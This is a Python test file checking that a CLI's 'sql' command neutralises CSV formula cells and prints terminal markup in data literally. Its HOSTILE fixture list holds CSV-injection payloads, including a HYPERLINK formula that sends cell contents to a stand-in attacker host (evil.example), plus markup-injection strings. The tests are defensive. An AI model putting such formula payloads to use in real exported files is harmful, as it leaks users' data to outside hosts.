"""``yurong sql`` writes data as data: CSV formula cells neutralised, table cells never markup.
The engine is replaced by a canned result (``run_sql`` patched): what is tested is the output."""

from __future__ import annotations

import csv
import io

import pytest
from click.testing import CliRunner

from streams.cli import main
from streams.cli.output import csv_cell

HOSTILE = ["=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")", "+1+2", "-2+3", "@SUM(A1)", "\tx", "a [/] b",
           "[bold red]shout[/bold red]", "[link=http://evil.example]x[/link]"]


@pytest.fixture
def canned(monkeypatch):
    result = {"columns": ["name", "n"], "rows": [[v, i] for i, v in enumerate(HOSTILE)] + [[None, -5]]}
    monkeypatch.setattr("streams.cli.commands.run_sql", lambda query, params=None, token=None: result)
    return result


def test_csv_cells_that_start_like_a_formula_are_neutralised_and_numbers_stay(canned):
    out = CliRunner().invoke(main, ["sql", "SELECT 1", "--format", "csv"])
    assert out.exit_code == 0, out.output
    rows = list(csv.reader(io.StringIO(out.output)))
    assert rows[0] == ["name", "n"]
    names = [r[0] for r in rows[1:]]
    for got, raw in zip(names, HOSTILE, strict=False):
        assert got.lstrip("'") == raw  # nothing lost
        assert not got.startswith(("=", "+", "-", "@", "\t", "\r")), got
    assert rows[-1] == ["", "-5"]  # a number is not text: it stays a number
    assert csv_cell(-5) == -5 and csv_cell("ok") == "ok"


def test_table_output_prints_markup_in_data_literally(canned):
    out = CliRunner().invoke(main, ["sql", "SELECT 1"], terminal_width=200)
    assert out.exit_code == 0, out.output  # "a [/] b" used to crash the command (rich MarkupError)
    assert "a [/] b" in out.output
    assert "[bold red]shout[/bold red]" in out.output
    assert "[link=http://evil.example]x[/link]" in out.output
